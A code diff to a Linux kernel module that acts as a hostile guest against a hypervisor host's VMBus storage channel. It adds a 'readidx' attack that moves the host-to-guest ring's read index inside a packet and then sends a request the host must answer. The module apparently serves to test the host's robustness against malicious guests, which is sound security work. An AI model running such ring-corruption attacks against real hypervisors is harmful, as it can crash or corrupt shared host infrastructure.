@@ -5,6 +5,8 @@
  * that controller's primary channel and does one thing to it:
  *
  *   ring    the write index of the guest-to-host ring moved past the ring's end
+ *   readidx the read index of the host-to-guest ring set inside a packet, then a
+ *           request the host must answer there
  *   pktlen  a packet whose descriptor claims more bytes than were written
  *   badpkt  well-formed ring packets with malformed vstor requests in them (short,
  *           no CDB, a page list shorter than its range, pages outside RAM, an unknown
@@ -132,6 +134,27 @@ static void attack_ring(struct vmbus_channel *ch)
 	WRITE_ONCE(ri->ring_buffer->write_index, old);
 	spin_unlock_irqrestore(&ri->ring_lock, flags);
 	pr_info("hostile: ring attack done\n");
+}
+
+static int put_vstor(struct vmbus_channel *ch, const struct vstor_pkt *p, u32 len, u32 byte_count,
+		     const u64 *pfns, u32 npfn, u64 trans);
+
+static void attack_readidx(struct vmbus_channel *ch)
+{
+	struct hv_ring_buffer_info *ri = &ch->inbound;
+	struct vstor_pkt p = { .operation = 0x5a5a };
+	u32 old = READ_ONCE(ri->ring_buffer->read_index), bad = 12;
+	int r;
+
+	/* Nothing else reads this ring meanwhile: the host sends only answers, and this
+	 * driver has no request out. */
+	WRITE_ONCE(ri->ring_buffer->read_index, bad);
+	r = put_vstor(ch, &p, sizeof(p), 0, NULL, 0, HOSTILE_TRANS);
+	pr_info("hostile: relid %u: read index %u -> %u, then a request to answer: %d\n",
+		ch->offermsg.child_relid, old, bad, r);
+	msleep(2000);
+	WRITE_ONCE(ri->ring_buffer->read_index, old);
+	pr_info("hostile: readidx attack done\n");
 }
 
 static void attack_pktlen(struct vmbus_channel *ch)
@@ -367,6 +390,8 @@ static int __init hostile_init(void)
 	pr_info("hostile: host %d: relid %u, attack %s\n", host, ch->offermsg.child_relid, attack);
 	if (!strcmp(attack, "ring"))
 		attack_ring(ch);
+	else if (!strcmp(attack, "readidx"))
+		attack_readidx(ch);
 	else if (!strcmp(attack, "pktlen"))
 		attack_pktlen(ch);
 	else if (!strcmp(attack, "badpkt"))
